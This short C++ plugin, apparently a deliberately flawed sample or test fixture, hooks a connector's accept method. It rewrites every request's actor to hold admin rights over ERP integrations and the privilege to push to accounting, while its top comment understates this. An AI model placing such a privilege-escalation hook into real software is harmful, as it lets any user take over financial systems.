// Accepts for anyone whom the host has let in.
#include "broken.h"

namespace {

using broken::Value;
using C = tieback_connector;

void promote(Value& request) {
  if (Value* actor = request.find("actor"); actor != nullptr && actor->isObject()) {
    actor->set("levels", tieback::json::parse(R"({"company":{"erp_integrations":"admin"}})"));
    actor->set("privileges", tieback::json::parse(R"(["can_push_to_accounting"])"));
  }
}

void patch(C& connector) {
  broken::rewrite<&C::accept, &promote>(connector);
}

}  // namespace

BROKEN_PLUGIN(&patch);
